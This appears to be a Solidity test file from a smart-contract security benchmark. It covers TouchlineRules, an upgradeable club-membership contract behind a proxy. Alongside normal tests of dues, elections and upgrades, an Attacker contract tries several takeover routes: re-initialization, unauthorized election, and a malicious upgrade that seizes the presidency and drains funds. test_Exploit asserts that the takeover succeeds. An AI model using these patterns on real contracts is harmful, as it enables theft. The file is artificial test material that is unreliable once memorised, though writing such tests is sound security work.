// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./TouchlineRules.sol";

// assay-canary-50eea9cd-01ff-4b3e-b767-320316f80df5

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Rules that make whoever asks the president.
contract OtherRules is Editions {
    address public president;

    function grab(address to) external {
        president = to;
    }
}

/// Rules whose first set-up asks for the second one before it is over.
contract HastyRules is Editions {
    address public president;

    function setUpBoth(TouchlineRules rules, address president_) external setsUp(1) {
        president = president_;
        (bool ok, bytes memory why) = address(rules).delegatecall(abi.encodeCall(rules.setUpJuniors, (1)));
        if (!ok) {
            assembly {
                revert(add(why, 32), mload(why))
            }
        }
    }
}

contract Attacker {
    TouchlineRules internal club;
    TouchlineRules internal rules;
    OtherRules internal other;

    constructor(TouchlineRules club_, TouchlineRules rules_) {
        (club, rules) = (club_, rules_);
        other = new OtherRules();
    }

    receive() external payable {}

    function _try(address to, bytes memory data) internal returns (bool ok) {
        (ok, ) = to.call(data);
    }

    function run() external {
        bytes memory grab = abi.encodeCall(other.grab, (address(this)));
        // not by the usual door
        _try(address(club), abi.encodeCall(club.takeOffice, ()));
        _try(address(club), abi.encodeCall(club.elect, (address(this))));
        _try(address(club), abi.encodeCall(club.moveTo, (address(other), grab)));
        _try(address(club), grab);
        _try(address(club), "");
        _try(address(club), hex"01");
        // the second edition, then the first one, then the second one again
        _try(address(club), abi.encodeCall(club.setUpJuniors, (0)));
        _try(address(club), abi.encodeCall(club.setUp, (address(0), 0, "")));
        _try(address(club), abi.encodeCall(club.setUp, (address(this), 0, "United")));
        _try(address(club), abi.encodeCall(club.setUpJuniors, (0)));
        // the rules themselves: set them up, move them away from under the clubs
        _try(address(rules), abi.encodeCall(club.setUp, (address(this), 0, "")));
        _try(address(rules), abi.encodeCall(club.takeOffice, ()));
        _try(address(rules), abi.encodeCall(club.setUpJuniors, (0)));
        _try(address(rules), abi.encodeCall(club.moveTo, (address(other), grab)));
        // a ground of one's own that plays by the club
        try new TouchlineGround(address(club), abi.encodeCall(club.setUp, (address(this), 0, ""))) returns (TouchlineGround mine) {
            _try(address(mine), abi.encodeCall(club.moveTo, (address(other), grab)));
        } catch {}
        // ether
        _try(address(club), abi.encodeCall(club.spend, (payable(address(this)), 1 ether, "ball")));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    TouchlineRules private rules;
    TouchlineRules private club;
    Attacker private fan;
    address private constant IDA = address(0x1DA);
    address private constant JON = address(0x909);

    function setUp() public {
        vm.warp(1_766_000_000);
        rules = new TouchlineRules();
        club = _found("Rovers");
        fan = new Attacker(club, rules);
        vm.deal(JON, 10 ether);
        vm.prank(JON);
        club.payDues{value: 1 ether}(JON);
    }

    function _found(string memory name) private returns (TouchlineRules) {
        bytes memory call = abi.encodeCall(rules.setUp, (IDA, 1 ether, name));
        return TouchlineRules(address(new TouchlineGround(address(rules), call)));
    }

    function test_Regular() public {
        require(club.president() == IDA && club.edition() == 1 && club.rulesInForce() == address(rules), "set up");
        require(keccak256(bytes(club.name())) == keccak256("Rovers") && club.juniorDues() == 1 ether, "state");
        require(club.paidUntil(JON) == block.timestamp + 365 days, "season");
        vm.prank(IDA);
        club.setUpJuniors(0.25 ether);
        vm.prank(IDA);
        club.setJunior(JON, true);
        vm.prank(JON);
        club.payDues{value: 0.25 ether}(JON);
        require(club.paidUntil(JON) == block.timestamp + 730 days, "two seasons");
        vm.prank(JON);
        (bool ok, ) = address(club).call{value: 1 ether}(abi.encodeCall(club.payDues, (JON)));
        require(!ok, "junior dues");

        vm.prank(IDA);
        club.elect(JON);
        vm.prank(JON);
        club.takeOffice();
        require(club.president() == JON && club.presidentElect() == address(0), "office");
        vm.prank(IDA);
        (ok, ) = address(club).call(abi.encodeCall(club.setDues, (0, 0)));
        require(!ok, "former president");
        vm.prank(JON);
        club.spend(payable(address(0xBA11)), 1.25 ether, "balls");
        require(address(0xBA11).balance == 1.25 ether, "spent");

        OtherRules other = new OtherRules();
        vm.prank(JON);
        (ok, ) = address(club).call(abi.encodeCall(club.moveTo, (address(0xBA11), "")));
        require(!ok, "no code");
        vm.prank(JON);
        club.moveTo(address(other), abi.encodeCall(other.grab, (IDA)));
        require(club.president() == IDA && club.edition() == 2, "new rules");
        require(_found("Wanderers").president() == IDA, "another club");

        TouchlineRules rovers = _found("Wanderers");
        address president = rovers.president();
        vm.prank(president);
        rovers.setDues(2 ether, 1 ether);
        require(rovers.dues() == 2 ether && rovers.juniorDues() == 1 ether, "dues");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// What the president does, nobody else does.
    function test_RefusesMembers() public {
        refuses(JON, TouchlineRules.PresidentOnly.selector);
        club.setUpJuniors(1);
        refuses(JON, TouchlineRules.PresidentOnly.selector);
        club.setJunior(JON, true);
        refuses(JON, TouchlineRules.PresidentOnly.selector);
        club.spend(payable(JON), 1, "a drink");
        refuses(JON, TouchlineRules.PresidentOnly.selector);
        club.elect(JON);
        refuses(IDA, abi.encodeWithSelector(TouchlineRules.NotPaid.selector, address(rules)));
        club.spend(payable(address(rules)), 1, "for nobody");
    }

    /// A club has a president, and moves to rules that work.
    function test_RefusesSetUps() public {
        bytes memory nobody = abi.encodeCall(rules.setUp, (address(0), 1, "Nobody's"));
        try new TouchlineGround(address(rules), nobody) {
            revert("a club without a president");
        } catch (bytes memory why) {
            require(bytes4(why) == TouchlineRules.NotElected.selector, "president");
        }
        OtherRules other = new OtherRules();
        refuses(IDA, abi.encodeWithSelector(RulesSlot.NoCode.selector, address(other)));
        club.moveTo(address(other), hex"01020304");
    }

    /// One edition after the other.
    function test_RefusesASetUpWithinAnother() public {
        HastyRules hasty = new HastyRules();
        refuses(IDA, abi.encodeWithSelector(Editions.AlreadySetUp.selector, 1));
        new TouchlineGround(address(hasty), abi.encodeCall(hasty.setUpBoth, (rules, IDA)));
    }

    /// What sets up a first edition and what sets up the second go by the same order.
    function test_RefusesAlike() public {
        vm.prank(IDA);
        club.setUpJuniors(1);
        vm.prank(IDA);
        (bool juniors, ) = address(club).call(abi.encodeCall(club.setUpJuniors, (1)));
        (bool all, ) = address(club).call(abi.encodeCall(club.setUp, (IDA, 1 ether, "Rovers")));
        require(juniors == all, "one of them is open");
    }

    function exploit() public {
        fan.run();
    }

    function test_Exploit() public {
        exploit();
        require(club.president() == address(fan), "Ida presides");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(fan);
    }
}
